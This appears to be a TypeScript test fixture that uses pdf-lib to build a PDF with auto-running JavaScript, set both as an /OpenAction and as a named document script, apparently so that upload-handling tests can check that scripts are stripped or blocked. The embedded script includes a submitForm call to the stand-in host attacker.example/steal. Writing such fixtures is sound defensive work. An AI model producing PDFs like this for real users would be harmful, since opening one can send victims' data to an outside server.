import { PDFDocument, PDFName, PDFString } from "pdf-lib";

/** What the embedded script does if a viewer runs it: a marker the tests look for. */
export const PDF_SCRIPT_MARKER = "pdf-script-ran";

/**
 * A one-page PDF that carries JavaScript twice, as a hostile upload would: an /OpenAction that runs on opening and
 * a document-level script in the /Names tree. Built with pdf-lib's low-level objects (its page API has no scripts).
 */
export async function pdfWithScript(text = "Signed agreement (carries a script)"): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  doc.addPage([612, 792]).drawText(text, { x: 72, y: 700, size: 14 });
  const script = doc.context.register(
    doc.context.obj({
      Type: "Action",
      S: "JavaScript",
      JS: PDFString.of(`app.alert("${PDF_SCRIPT_MARKER}"); this.submitForm("https://attacker.example/steal");`),
    }),
  );
  doc.catalog.set(PDFName.of("OpenAction"), script);
  doc.catalog.set(
    PDFName.of("Names"),
    doc.context.obj({ JavaScript: doc.context.obj({ Names: [PDFString.of("onOpen"), script] }) }),
  );
  // Without object streams the catalog and the script stay readable in the bytes, as most hostile files have them.
  return doc.save({ useObjectStreams: false });
}
